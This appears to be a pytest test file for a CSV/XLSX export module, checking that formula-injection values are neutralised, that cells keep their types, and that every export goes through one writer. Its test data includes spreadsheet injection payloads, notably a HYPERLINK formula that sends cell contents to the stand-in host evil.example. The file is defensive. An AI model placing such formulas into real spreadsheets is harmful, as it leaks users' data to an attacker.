"""One writer for every CSV and XLSX file (gbvms/core/tabular.py): no live formula, typed cells,
a BOM on CSV."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from gbvms.core import tabular

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", EVIL)
def test_dangerous_first_characters_get_a_quote(value):
    assert tabular.neutralise(value) == "'" + value
    assert tabular.unneutralise(tabular.neutralise(value)) == value


@pytest.mark.parametrize("value", ["Nhà tạm lánh", "0912 345 678", "'quoted", "a=b", ""])
def test_other_text_is_unchanged(value):
    assert tabular.neutralise(value) == value
    assert tabular.unneutralise(value) == value


def test_xlsx_cells_are_typed_and_never_formulas():
    when = datetime.datetime(2026, 11, 20, 1, 30, tzinfo=datetime.UTC)
    rows = [
        ["name", "beds", "rate", "cost", "open", "day", "at", "empty"],
        [EVIL[0], 12, 0.5, Decimal("3.25"), True, datetime.date(2026, 6, 30), when, None],
        ["-5", -5, "Trạm\x01 Y tế", "@x", False, None, None, None],
    ]
    book = load_workbook(io.BytesIO(tabular.xlsx_bytes(rows, sheet="providers")))
    sheet = book["providers"]
    name = sheet["A2"]
    assert name.data_type == "s"  # a string, not "f" (formula)
    assert name.value == "'" + EVIL[0]
    assert (sheet["B2"].value, sheet["B2"].data_type) == (12, "n")
    assert sheet["C2"].value == 0.5
    assert sheet["D2"].value == 3.25
    assert sheet["E2"].value is True
    assert sheet["F2"].value == datetime.datetime(2026, 6, 30)  # a date cell
    assert sheet["F2"].is_date
    assert sheet["G2"].value == datetime.datetime(2026, 11, 20, 8, 30)  # local time (UTC+7)
    assert sheet["H2"].value is None
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("'-5", "s")  # text stays text
    assert (sheet["B3"].value, sheet["B3"].data_type) == (-5, "n")  # a number stays a number
    assert sheet["C3"].value == "Trạm Y tế"  # a character XML cannot hold is dropped
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_csv_has_a_bom_and_neutralised_cells():
    data = tabular.csv_bytes([["name", "beds"], [EVIL[0], 12], ["Địa chỉ tin cậy", None]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["name", "beds"], ["'" + EVIL[0], "12"], ["Địa chỉ tin cậy", ""]]


def test_responses_are_attachments():
    response = tabular.csv_response([["a"]], filename="x.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    response = tabular.xlsx_response([["a"]], filename="x.xlsx")
    assert response["Content-Type"] == tabular.XLSX_TYPE


def test_no_other_module_writes_csv_or_xlsx():
    """The rule of docs/architecture.md: every CSV/XLSX the system writes goes through
    core.tabular (a new export that calls csv.writer or openpyxl itself fails here)."""
    from pathlib import Path

    root = Path(tabular.__file__).resolve().parents[1]
    writers = ("csv.writer(", "csv.DictWriter(", "Workbook(", "text/csv")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "tabular.py" and any(w in path.read_text() for w in writers)
    ]
    assert offenders == []
